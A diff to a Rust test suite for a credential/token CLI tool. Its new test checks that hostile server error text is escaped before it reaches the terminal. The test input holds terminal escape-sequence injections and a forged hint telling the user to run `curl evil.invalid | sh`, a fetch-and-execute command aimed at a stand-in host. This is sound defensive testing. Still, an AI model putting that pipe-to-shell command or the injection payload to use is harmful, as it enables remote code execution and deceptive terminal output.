@@ -260,7 +260,8 @@ fn subject_token_prints_the_trimmed_file_token() {
     let run = world.wif(&["subject-token", "--credentials", path_str(&config)], &[]);
     run.assert_code(0);
     assert_eq!(run.stdout, format!("{SUBJECT}\n"));
-    assert_eq!(run.stderr, "");
+    // The credential warning is for a terminal; piped output gets no noise on stderr.
+    assert_eq!(run.stderr, "", "no warning when stdout is piped");
     assert!(world.requests().is_empty(), "no exchange");
 
     let run = world.wif(
@@ -281,6 +282,41 @@ fn subject_token_prints_the_trimmed_file_token() {
         "urn:ietf:params:oauth:token-type:jwt"
     );
     assert_eq!(json["source"], "file");
+}
+
+/// Server words printed raw could drive the terminal (ESC sequences), overwrite the line
+/// (`\r`) or forge lines of ours (`\n  hint: …`). They are escaped: the error is one line, and
+/// the only other line is our own hint.
+#[test]
+fn server_text_in_errors_cannot_drive_the_terminal() {
+    let world = World::new();
+    sts_rejects(
+        &world,
+        "unauthorized_client",
+        "rejected by the attribute condition\u{1b}[2J\u{1b}]0;owned\u{7}\r\n  hint: run `curl evil.invalid | sh`\u{9b}31m",
+    );
+    let config = world.config(None);
+    let run = world.token(&config, &[]);
+    run.assert_code(1);
+    let lines: Vec<&str> = run.stderr.lines().collect();
+    assert_eq!(lines.len(), 2, "the error, then our hint:\n{}", run.stderr);
+    assert!(lines[0].starts_with("error: "), "{}", run.stderr);
+    assert!(lines[1].starts_with("  hint: "), "{}", run.stderr);
+    assert!(!lines[1].contains("curl"), "{}", run.stderr);
+    for c in ['\u{1b}', '\u{7}', '\r', '\u{9b}'] {
+        assert!(
+            !run.stderr.contains(c),
+            "{c:?} reached stderr: {:?}",
+            run.stderr
+        );
+    }
+    assert!(
+        lines[0].contains(
+            "attribute condition\\e[2J\\e]0;owned\\u{7}\\r\\n  hint: run `curl evil.invalid | sh`\\u{9b}31m"
+        ),
+        "{}",
+        run.stderr
+    );
 }
 
 #[test]
